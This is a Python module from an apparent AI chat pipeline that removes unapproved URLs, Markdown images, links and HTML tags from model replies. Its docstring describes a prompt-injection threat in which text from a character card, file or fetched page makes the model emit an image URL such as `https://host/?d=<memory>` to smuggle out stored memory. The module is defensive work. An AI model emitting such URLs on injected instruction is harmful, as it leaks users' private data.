"""Links and images in a reply: which URL may stay, and the reply with every other one taken out.

A client that renders Markdown loads an image by itself and opens a link on one click, so a URL
in a reply is a way out for what the model was shown: text that reached the prompt through a
character card, an uploaded file or a fetched page can ask for `![x](https://host/?d=<memory>)`.
The rule is the web_fetch tool's (`pipeline.thinker.tools.FetchRules`, `traegt_erinnerung`): a
URL stays only when it is one of the turn's own sources — a URL the person wrote himself in the
conversation, or one of the turn's search results — written as that source (the same query; a
fragment only as the source wrote it), and a search result's only when its path and query carry
no memory text. No configured host counts: on any host a path or query could carry the memory.

Neutralised, each counted by its kind: an inline image (`![alt](url)`) and a reference image
(`![alt][ref]`) become their alt text; an inline or reference link (`[text](url)`,
`[text][ref]`) its text; a reference definition (`[ref]: url`) goes; an HTML tag that names a
URL (`<img src=…>`, `<a href=…>`, any `src`/`href`/`srcset`/`poster`/`data`/`style=url(…)`)
goes, an `<img>` leaving its alt text; an autolink (`<https://…>`) and a bare URL
(`https://…`, `www.…`, `mailto:…`) go. Only the counts and the reasons' names are reported,
never a URL: it may carry the memory.
"""
from __future__ import annotations

import re
from collections import Counter
from typing import Iterable
from urllib.parse import urlsplit

from pipeline.thinker.tools import FetchRules, _url_key

_DEST = r"(<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()]*)*)"
"""A link destination: in angle brackets (spaces allowed), or without spaces and with balanced
parentheses one level deep."""
_TITEL = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
_TEXT = r"((?:\\.|[^\[\]\\\n])*)"
"""A link's text or an image's alt text: no unescaped brackets, one line."""
INLINE = re.compile(r"(!?)\[" + _TEXT + r"\]\(\s*" + _DEST + _TITEL + r"\s*\)")
VERWEIS = re.compile(r"(!?)\[" + _TEXT + r"\](?:\[([^\[\]\n]*)\])?")
DEFINITION = re.compile(r"^ {0,3}\[([^\[\]\n]+)\]:[ \t]*(?:\n[ \t]*)?(<[^<>\n]*>|\S+)"
                        r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*(?:\n|$)""", re.M)
AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.\-]{1,31}:[^\s<>]*)>")
_TAG = re.compile(r"<\s*([a-zA-Z][a-zA-Z0-9\-]*)(?=[\s/>])([^<>]*)>")
_URL_ATTR = re.compile(r"""\b(?:src|href|srcset|poster|data|action|formaction|background|style)\s*=""", re.I)
_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.I)
BARE = re.compile(r"(?:\b[a-zA-Z][a-zA-Z0-9+.\-]*://|(?<![\w/])//(?=[\w\-]+\.)|\bwww\.|\bmailto:)[^\s<>\"'`\[\]]+")
_ENDE = ".,;:!?*_~'\""
"""Characters a bare URL does not end with (punctuation of the sentence around it)."""


def gekuerzt(url: str) -> str:
    """A bare URL without the punctuation after it: a closing parenthesis only when unbalanced."""
    while url:
        if url[-1] in _ENDE:
            url = url[:-1]
        elif url[-1] == ")" and url.count(")") > url.count("("):
            url = url[:-1]
        else:
            break
    return url


class LinkRegel:
    """Which URLs of one turn's reply may stay (see the module's docstring)."""

    def __init__(self, person_texte: Iterable[str], quellen: Iterable[str], erinnerungen: Iterable[str]):
        person = "\n".join(t for t in person_texte if t)
        geschrieben = [gekuerzt(u) for u in BARE.findall(person)]
        self.person = FetchRules(person, [], 1)
        """The person's own URLs: what he wrote carries nothing he did not send."""
        for u in geschrieben:  # as a rendering client reads them: without the sentence's punctuation
            self.person.urls |= {_url_key(f"{s}://{u}") for s in ("http", "https")} if u.startswith("www.") \
                else {_url_key(f"https:{u}" if u.startswith("//") else u)}
        self.treffer = FetchRules("", [], 1)
        self.treffer.urls |= {_url_key(u) for u in quellen if u}
        self.treffer.erinnerungen += [t for t in erinnerungen if t]
        self.exakt = {u.strip().rstrip("/") for u in [*geschrieben, *quellen] if u}

    def grund(self, url: str) -> str | None:
        """The fallback name when the URL may not stay; None when it may."""
        url = url.strip()
        if url.startswith("<") and url.endswith(">"):
            url = url[1:-1].strip()
        if urlsplit(url).scheme.lower() not in ("http", "https"):
            return "fremde_url"
        if urlsplit(url).fragment and url.rstrip("/") not in self.exakt:
            return "fragment"
        if self.person.refusal(url) is None:
            return None
        nein = self.treffer.refusal(url)
        return None if nein is None else nein[0].split(".", 1)[1]


def _ohne_escape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def _definitionen(text: str, regel: LinkRegel, z: Counter) -> tuple[str, set[str]]:
    """The text without the reference definitions whose URL may not stay, and their labels."""
    weg: set[str] = set()

    def ersetzen(m: re.Match) -> str:
        grund = regel.grund(m.group(2))
        if grund is None:
            return m.group(0)
        weg.add(" ".join(m.group(1).lower().split()))
        z["definition"] += 1
        z[grund] += 1
        return ""

    return DEFINITION.sub(ersetzen, text), weg


def _markdown(text: str, regel: LinkRegel, z: Counter) -> str:
    """Inline and reference images and links neutralised: the alt text or the link text stays."""
    text, weg = _definitionen(text, regel, z)

    def inline(m: re.Match) -> str:
        grund = regel.grund(m.group(3))
        if grund is None:
            return m.group(0)
        z["bild" if m.group(1) else "link"] += 1
        z[grund] += 1
        return _ohne_escape(m.group(2))

    def verweis(m: re.Match) -> str:
        label = " ".join((m.group(3) or m.group(2)).lower().split())
        if label not in weg:
            return m.group(0)
        z["bild" if m.group(1) else "link"] += 1
        return _ohne_escape(m.group(2))

    # an image inside a link's text first: `[![x](a)](b)`
    for _ in range(3):
        neu = INLINE.sub(inline, text)
        if neu == text:
            break
        text = neu
    return VERWEIS.sub(verweis, text) if weg else text


def _html(text: str, regel: LinkRegel, z: Counter) -> str:
    """HTML tags that name a URL go (an <img> leaves its alt text); autolinks go."""
    entfernt: set[str] = set()

    def tag(m: re.Match) -> str:
        name, attrs = m.group(1).lower(), m.group(2)
        if not _URL_ATTR.search(attrs):
            return m.group(0)
        urls = BARE.findall(attrs) or ["(relativ)"]
        gruende = [g for g in (regel.grund(gekuerzt(u)) for u in urls) if g]
        if not gruende:
            return m.group(0)
        z["html"] += 1
        z[gruende[0]] += 1
        entfernt.add(name)
        alt = _ALT.search(attrs) if name == "img" else None
        return next((g for g in alt.groups() if g), "") if alt else ""

    def autolink(m: re.Match) -> str:
        grund = regel.grund(m.group(1))
        if grund is None:
            return m.group(0)
        z["autolink"] += 1
        z[grund] += 1
        return ""

    text = _TAG.sub(tag, text)
    for name in entfernt:
        text = re.sub(rf"<\s*/\s*{name}\s*>", "", text, flags=re.I)
    return AUTOLINK.sub(autolink, text)


def _bare(text: str, regel: LinkRegel, z: Counter) -> str:
    def bare(m: re.Match) -> str:
        url = gekuerzt(m.group(0))
        rest = m.group(0)[len(url):]
        probe = url if "://" in url or url.startswith("mailto:") else f"https:{url}" if url.startswith("//") \
            else f"https://{url}"
        grund = regel.grund(probe)
        if grund is None:
            return m.group(0)
        z["url"] += 1
        z[grund] += 1
        return rest

    return BARE.sub(bare, text)


def entschaerfen(text: str, regel: LinkRegel) -> tuple[str, Counter]:
    """The text with every URL that may not stay neutralised, and what was neutralised by kind
    (`bild`, `link`, `definition`, `html`, `autolink`, `url`) and by reason (`fremde_url`,
    `erinnerung_in_url`, `fragment`). The text comes back as it was when nothing was found."""
    z: Counter = Counter()
    neu = _bare(_html(_markdown(text, regel, z), regel, z), regel, z)
    if not z:
        return text, z
    neu = re.sub(r"(?<=\S)[ \t]{2,}(?=\S)", " ", neu)
    neu = re.sub(r"[ \t]+(?=[.,;:!?](?:\s|$))", "", neu)
    return re.sub(r"\n{3,}", "\n\n", neu).strip(), z


ARTEN = ("bild", "link", "definition", "html", "autolink", "url")
"""The kinds `entschaerfen` counts; every other key of its Counter is a reason."""
